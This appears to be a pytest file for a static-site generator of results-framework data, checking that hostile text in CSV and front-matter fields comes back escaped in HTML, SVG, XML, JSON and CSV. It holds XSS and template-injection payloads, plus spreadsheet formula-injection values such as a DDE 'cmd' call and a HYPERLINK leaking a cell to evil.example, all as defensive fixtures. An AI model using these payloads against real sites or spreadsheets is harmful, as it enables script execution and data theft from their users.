"""Data is text, never markup (SPEC §5): hostile text in every field stays text.

Every text field of the data and of the front matter of evaluations and reviews carries a
payload (HTML, script, attribute-breaking quotes, Markdown, Jinja, CDATA ends, non-Latin
scripts, 5,000-character strings). Built public and internal, each payload must read back
exactly as written from the HTML, SVG, XML, JSON and CSV a reader gets, and none may become
an element, an attribute, a link or an evaluated template.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from dataclasses import dataclass
from typing import TYPE_CHECKING

import pytest
import yaml
from conftest import MKDOCS_YML, build, write_project
from lxml import etree, html

from ssa_site.project import load_site

if TYPE_CHECKING:
    from pathlib import Path

HOSTILE = (
    '<script>alert(1)</script> " onmouseover="x \'><img src=x onerror=alert(1)> '
    "[click](javascript:alert(1)) ](javascript:alert(1)) {{ 7*7 }} {% raw %} a|b *c* _d_ "
    "&amp; & </title> ]]> baseline, target, indicator, outcome: "  # glossary terms get tooltips
    "أمن الحدود Пограничная служба 边境安全"
)
LONG = " ".join(f"word{i:04d}" for i in range(556))[:5000]


def p(tag: str) -> str:
    """The payload of one field, tagged so that a reader can tell which field it came from."""
    return f"{tag}: {HOSTILE}"


LEVEL = "objective \"<b>level</b>'"  # a level name is shown and may end up in attributes
DIMENSION = 'zone"><script>alert(2)</script>'  # a dimension is a column name
CSV_FIELDS = {
    "results": ["id", "parent", "level", "title", "statement", "aligns_to", "visibility"],
    "indicators": [
        "id", "result", "title", "definition", "unit", "measure", "direction",
        "disaggregated_by", "rationale", "data_source", "collection_method", "frequency",
        "responsible", "limitations", "standard_code",
    ],
    "values": ["indicator", "period", "kind", "value", "text", "comment", "reported", DIMENSION],
    "initiatives": [
        "id", "title", "description", "results", "agency", "implementer", "status",
        "budget", "me_budget", "iati_identifier",
    ],
    "assumptions": ["result", "text", "risk", "mitigation"],
}  # fmt: skip
ROWS = {
    "results": [
        ["G1", "", "goal", p("goal-title"), LONG, "", ""],
        ["O1", "G1", LEVEL, p("result-title"), p("result-statement"), "", ""],
    ],
    "indicators": [
        ["I1", "O1", p("indicator-title"), p("indicator-definition"), p("indicator-unit"),
         "unit", "increase", DIMENSION, p("indicator-rationale"), p("indicator-source"),
         p("indicator-method"), p("indicator-frequency"), p("indicator-responsible"),
         p("indicator-limitations"), p("indicator-code")],
        ["I2", "O1", "Qualitative " + "x" * 4980, LONG, "stage", "qualitative", "", "",
         "", "", "", "", "", "", ""],
    ],
    "values": [
        ["I1", "FY2023", "baseline", "10", "", "", "2023-10-20", ""],
        ["I1", "FY2025", "target", "20", "", p("value-comment"), "", ""],
        ["I1", "FY2024", "actual", "14", "", "", "2024-10-20", ""],
        ["I1", "FY2024", "actual", "6", "", "", "2024-10-20", p("dimension-value")],
        ["I2", "FY2023", "baseline", "", p("qualitative-baseline"), "", "2023-10-20", ""],
        ["I2", "FY2025", "target", "", p("qualitative-target"), "", "", ""],
        ["I2", "FY2024", "actual", "", p("qualitative-actual"), "", "2024-10-20", ""],
    ],
    "initiatives": [
        ["P1", p("initiative-title"), p("initiative-description"), "O1",
         p("initiative-agency"), p("initiative-implementer"), "ongoing", "1000", "20",
         "XM-1"],
    ],
    "assumptions": [["O1", p("assumption-text"), "high", p("assumption-mitigation")]],
}  # fmt: skip
EVALUATION = {
    "id": "e1",
    "title": p("evaluation-title"),
    "type": "performance",
    "plans": ["inj"],
    "results": ["inj:O1"],
    "evaluator": p("evaluation-evaluator"),
    "completed": "2024-08-30",
    "published": "2024-10-15",
    "report_url": 'https://example.org/report?a=1&b="><script>alert(3)</script>',
    "questions": [p("evaluation-question")],
    "recommendations": [
        {
            "id": "R1",
            "text": p("recommendation-text"),
            "response": "accept",
            "action": p("recommendation-action"),
            "due": "2025-06-30",
        }
    ],
}

#: Where a reader finds each payload (public build).
SHOWN = {
    "plans/inj/index.html": [
        "plan-title", "plan-description", "initiative-title", "initiative-description",
        "initiative-agency", "initiative-implementer",
    ],
    "plans/inj/results/O1/index.html": [
        "result-title", "result-statement", "assumption-text", "assumption-mitigation",
    ],
    "plans/inj/indicators/I1/index.html": [
        "indicator-title", "indicator-definition", "indicator-unit", "indicator-rationale",
        "indicator-source", "indicator-method", "indicator-frequency", "indicator-code",
        "dimension-value",
    ],
    "plans/inj/indicators/I2/index.html": [
        "qualitative-baseline", "qualitative-target", "qualitative-actual",
    ],
    "evaluations/e1/index.html": [
        "evaluation-title", "evaluation-evaluator", "evaluation-question",
        "recommendation-text", "recommendation-action",
    ],
    "plans/inj/reviews/2024-11-01/index.html": ["review-title"],
}  # fmt: skip
#: Internal fields, shown only in the internal build.
SHOWN_INTERNALLY = {
    "plans/inj/indicators/I1/index.html": [
        "indicator-responsible", "indicator-limitations", "value-comment",
    ],
}  # fmt: skip
#: Pages titled by a payload: their <title> must read back the payload.
TITLED = {
    "plans/inj/index.html": "plan-title",
    "plans/inj/results/O1/index.html": "result-title",
    "plans/inj/indicators/I1/index.html": "indicator-title",
    "evaluations/e1/index.html": "evaluation-title",
    "plans/inj/reviews/2024-11-01/index.html": "review-title",
}


def _csv(rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


def write_hostile_project(root: Path) -> Path:
    files: dict[str, str | dict[str, object]] = {
        "mkdocs.yml": MKDOCS_YML.replace(
            "docs_dir:", "site_url: https://example.org/x/\ndocs_dir:"
        ),
        "data/inj/datapackage.json": {
            "name": "inj",
            "description": p("plan-description"),
            "ssa": {
                "title": p("plan-title"),
                "kind": "country-strategy",
                "period": {"start": "2023-10-01", "end": "2027-09-30"},
                "levels": ["goal", LEVEL],
                "license": "CC-BY-4.0",
            },
            "resources": [{"name": n, "path": f"{n}.csv"} for n in CSV_FIELDS],
        },
        "content/evaluations/e1.md": "---\n"
        + yaml.safe_dump(EVALUATION, allow_unicode=True, sort_keys=False)
        + "---\n## Summary\n\nThe evaluation found progress.\n",
        "content/reviews/inj/2024-11-01.md": "---\n"
        + yaml.safe_dump({"title": p("review-title")}, allow_unicode=True)
        + "---\n\nA review.\n",
    }
    for name, header in CSV_FIELDS.items():
        files[f"data/inj/{name}.csv"] = _csv([header, *ROWS[name]])
    return write_project(root, files)


@dataclass(frozen=True)
class Built:
    root: Path
    public: Path
    internal: Path


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    root = write_hostile_project(tmp_path_factory.mktemp("injection") / "hostile")
    return Built(root, build(root, "public", strict=False), build(root, "internal", strict=False))


@pytest.mark.slow
def test_the_hostile_project_loads_without_errors(built: Built) -> None:
    site = load_site(built.root, built.root / "data", built.root / "content", "internal")
    assert [str(e) for e in site.errors] == []


def _page(site: Path, rel: str) -> html.HtmlElement:
    return html.fromstring((site / rel).read_bytes())


def _text(element: html.HtmlElement) -> str:
    return element.text_content()


@pytest.mark.slow
@pytest.mark.parametrize("audience", ["public", "internal"])
def test_every_payload_reads_back_as_text(built: Built, audience: str) -> None:
    site = built.public if audience == "public" else built.internal
    expected = {rel: list(tags) for rel, tags in SHOWN.items()}
    if audience == "internal":
        for rel, tags in SHOWN_INTERNALLY.items():
            expected[rel] += tags
    missing = [
        f"{rel}: {tag}"
        for rel, tags in expected.items()
        for tag in tags
        if p(tag) not in _text(_page(site, rel).xpath("//article")[0])
    ]
    assert not missing, "payloads not shown as written:\n" + "\n".join(missing)
    assert LONG in _text(_page(site, "plans/inj/results/G1/index.html"))
    result_page = _text(_page(site, "plans/inj/results/O1/index.html").xpath("//article")[0])
    assert "Objective \"<b>level</b>'" in result_page  # the level name, capitalised
    assert LONG in _text(_page(site, "plans/inj/indicators/I2/index.html"))


@pytest.mark.slow
@pytest.mark.parametrize("audience", ["public", "internal"])
def test_page_titles_read_back_the_payload(built: Built, audience: str) -> None:
    site = built.public if audience == "public" else built.internal
    for rel, tag in TITLED.items():
        titles = _page(site, rel).xpath("/html/head/title")
        assert len(titles) == 1, rel
        assert p(tag) in titles[0].text_content(), (rel, titles[0].text_content())


_EVENT = re.compile(r"^on[a-z]+$")


@pytest.mark.slow
@pytest.mark.parametrize("audience", ["public", "internal"])
def test_no_payload_becomes_markup(built: Built, audience: str) -> None:
    site = built.public if audience == "public" else built.internal
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 10
    problems: list[str] = []
    for path in pages:
        rel = path.relative_to(site).as_posix()
        tree = _page(site, rel)
        for element in tree.iter():
            if not isinstance(element.tag, str):
                continue
            for name, value in element.attrib.items():
                if _EVENT.match(name.lower()):
                    problems.append(f"{rel}: <{element.tag} {name}=…>")
                if name.lower() in ("href", "src", "action", "formaction", "xlink:href") and (
                    value.strip().lower().startswith(("javascript:", "data:text/html"))
                ):
                    problems.append(f"{rel}: <{element.tag} {name}={value!r}>")
            if element.tag == "script" and "json" in (element.get("type") or ""):
                try:  # data for scripts, e.g. JSON-LD: must stay one JSON value
                    json.loads(element.text or "")
                except ValueError:
                    problems.append(f"{rel}: the payload broke out of a JSON <script>")
            elif element.tag == "script" and "alert" in (element.text or ""):
                problems.append(f"{rel}: a <script> runs the payload")
            if element.tag == "img" and element.get("src") == "x":
                problems.append(f"{rel}: the payload's <img> became an element")
            if element.tag in ("b", "em") and "level" in (element.text or ""):
                problems.append(f"{rel}: the level name became <{element.tag}>")
        for src in tree.xpath("//script/@src"):  # only the theme's and the plugin's own
            local = src.split("?")[0]  # 404.html addresses files from the site_url's root
            target = (
                site / local.removeprefix("/x/") if local.startswith("/") else path.parent / local
            ).resolve()
            if "://" in src or not target.is_file() or not target.is_relative_to(site):
                problems.append(f"{rel}: <script src={src}> is not a file of the site")
        text = tree.text_content()
        if "{{" not in text and "7*7" in text:
            problems.append(f"{rel}: a template expression was evaluated")
    assert not problems, "\n".join(problems)


@pytest.mark.slow
def test_charts_are_well_formed_and_keep_the_text(built: Built) -> None:
    charts = sorted((built.public / "assets" / "charts").rglob("*.svg"))
    assert charts
    texts: list[str] = []
    for chart in charts:
        tree = etree.parse(str(chart), etree.XMLParser(resolve_entities=False))
        for element in tree.iter():
            if not isinstance(element.tag, str):
                continue
            assert etree.QName(element).localname != "script", chart
            for name, value in element.attrib.items():
                assert not _EVENT.match(etree.QName(name).localname.lower()), (chart, name)
                assert not value.strip().lower().startswith("javascript:"), (chart, name)
        texts.append("".join(tree.getroot().itertext()))
    joined = "\n".join(texts)
    assert DIMENSION in joined  # the breakdown chart names its dimension
    for tag in ("dimension-value", "plan-title", "result-title", "indicator-title"):
        assert p(tag) in joined, tag  # a category, a status chart, an indicator chart
    assert p("indicator-unit") in joined
    assert all(c.name.endswith(".svg") and c.is_relative_to(built.public) for c in charts)


@pytest.mark.slow
def test_xml_json_and_csv_downloads_keep_the_text(built: Built) -> None:
    site = built.public
    iati = etree.parse(str(site / "data/plans/inj/iati-activities.xml"))
    narratives = "\n".join(n.text for n in iati.iter("narrative"))
    for tag in ("initiative-title", "initiative-description", "result-title", "indicator-title"):
        assert p(tag) in narratives, tag
    assert p("qualitative-actual") in narratives
    assert {d.get("name") for d in iati.iter("dimension")} == {DIMENSION}
    assert p("dimension-value") in {d.get("value") for d in iati.iter("dimension")}
    sitemap = etree.parse(str(site / "sitemap.xml"))
    assert len(sitemap.getroot()) > 5
    catalog = json.loads((site / "data.json").read_text("utf-8"))
    assert any(p("plan-title") in text for text in _strings(catalog))
    index = json.loads((site / "search/search_index.json").read_text("utf-8"))
    assert any("onerror=alert" in d["text"] or "onerror=alert" in d["title"] for d in index["docs"])
    with (site / "data/plans/inj/initiatives.csv").open(encoding="utf-8", newline="") as f:
        initiatives = list(csv.DictReader(f))
    assert initiatives[0]["title"] == p("initiative-title")
    with (site / "data/plans/inj/values.csv").open(encoding="utf-8", newline="") as f:
        values = list(csv.DictReader(f))
    assert p("dimension-value") in [row[DIMENSION] for row in values]
    with zipfile.ZipFile(site / "data/plans/inj/inj.zip") as archive:
        package = json.loads(archive.read("datapackage.json"))
    assert p("plan-description") in _strings(package)
    assert p("plan-title") in _strings(package)


def _strings(value: object) -> list[str]:
    """Every string of a parsed JSON document."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in (*_strings(k), *_strings(v))]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


# -- spreadsheet formula injection in the CSV downloads (policy: README, "Security") -----


def _replace(root: Path, rel: str, old: str, new: str) -> None:
    path = root / rel
    text = path.read_text("utf-8")
    assert old in text, (rel, old)
    path.write_text(text.replace(old, new, 1), "utf-8")


def test_text_a_spreadsheet_would_run_is_a_warning(project) -> None:  # type: ignore[no-untyped-def]
    root = project()
    values = "data/northland-ics/values.csv"
    _replace(
        root,
        "data/northland-ics/indicators.csv",
        "Average monthly seizures",
        '"=HYPERLINK(""http://evil.example/?""&A1,""Details"")"',
    )
    _replace(
        root,
        "data/northland-ics/results.csv",
        "Fewer illicit goods and people cross unchecked.",
        "+cmd|' /C calc'!A0",
    )
    _replace(root, "data/northland-ics/initiatives.csv", "Northland Border Agency", "@SUM(1+1)")
    _replace(
        root,
        values,
        "I1,FY2024,actual,49,,,2024-10-20,,female",
        "I1,FY2024,actual,49,,,2024-10-20,,-2+3",
    )
    # Harmless: a dash for "none", signed numbers with a plain unit, a dash inside the text.
    _replace(root, "data/northland-ics/assumptions.csv", "Retention allowances", "- 5 km")
    _replace(root, "data/northland-ics/indicators.csv", "Border agency logs", "-")
    _replace(
        root,
        "data/northland-ics/results.csv",
        "Border agencies detect illicit flows",
        "Agencies detect flows - more than -5 %",
    )
    (root / "content/evaluations").mkdir()
    (root / "content/evaluations/e1.md").write_text(
        "---\nid: e1\ntitle: An evaluation\ntype: process\nplans: [northland-ics]\n"
        "evaluator: '=1+1'\ncompleted: 2024-05-01\npublished: 2024-06-01\n"
        "questions:\n  - '-5 %'\n  - \"\\t=cmd\"\n---\nBody.\n",
        "utf-8",
    )
    site = load_site(root, root / "data", root / "content", "public")
    formulas = [str(p) for p in site.problems if "spreadsheet formula" in p.message]
    fix = (
        "(start the text with a word or a digit, e.g. 'minus 5' or '−5' (the minus sign), "
        "so that spreadsheet programs opening the CSV download do not run it as a formula)"
    )
    assert formulas == [
        "data/northland-ics/results.csv:2: statement: '+cmd|' /C calc'!A0' starts like a "
        f"spreadsheet formula ('+') {fix}",
        "data/northland-ics/indicators.csv:3: definition: '=HYPERLINK(\"http://evil.example/"
        f"?\"&A1,\"D…' starts like a spreadsheet formula ('=') {fix}",
        "data/northland-ics/values.csv:5: sex: '-2+3' starts like a spreadsheet formula "
        f"('-') {fix}",
        f"data/northland-ics/initiatives.csv:2: implementer: '@SUM(1+1)' starts like a "
        f"spreadsheet formula ('@') {fix}",
        f"content/evaluations/e1.md:6: evaluator: '=1+1' starts like a spreadsheet formula "
        f"('=') {fix}",
        f"content/evaluations/e1.md:11: questions[2]: '=cmd' starts like a spreadsheet "
        f"formula ('=') {fix}",
    ]
    assert all(not p.is_error for p in site.problems if "spreadsheet formula" in p.message)
